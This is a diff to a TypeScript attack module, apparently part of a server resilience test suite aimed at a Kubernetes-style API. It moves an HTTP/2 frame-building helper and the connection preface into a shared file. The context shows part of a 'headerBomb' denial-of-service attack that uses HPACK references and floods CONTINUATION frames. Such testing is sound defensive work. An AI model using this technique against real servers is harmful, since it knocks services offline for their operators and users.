@@ -5,6 +5,7 @@ import { connect as connectH2, type ClientHttp2Session, type ClientHttp2Stream }
 import { connect as connectTcp } from "node:net";
 import { connect as connectTls } from "node:tls";
 import { pause, type Attack, type Target } from "./attacks.ts";
+import { connectionPreface, frame } from "../support/http2-frame.ts";
 
 const times = <T>(count: number, make: (i: number) => T): T[] => Array.from({ length: count }, (_, i) => make(i));
 const configmaps = "/api/v1/namespaces/default/configmaps";
@@ -49,14 +50,6 @@ const headerLists: Attack = async (target) => {
   }
 };
 
-function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head[3] = type;
-  head[4] = flags;
-  head.writeUInt32BE(stream, 5);
-  return Buffer.concat([head, payload]);
-}
 /** A header once in full, then thousands of times by its number in the table. */
 const headerBomb: Attack = async ({ port, keys }) => {
   const [headers, settings, continuation] = [1, 4, 9];
@@ -70,7 +63,7 @@ const headerBomb: Attack = async ({ port, keys }) => {
     socket.resume();
     socket.write(
       Buffer.concat([
-        Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
+        connectionPreface,
         frame(settings, 0, 0, new Uint8Array()),
         frame(headers, 0, 1, insert),
         ...times(50, () => frame(continuation, 0, 1, again)),
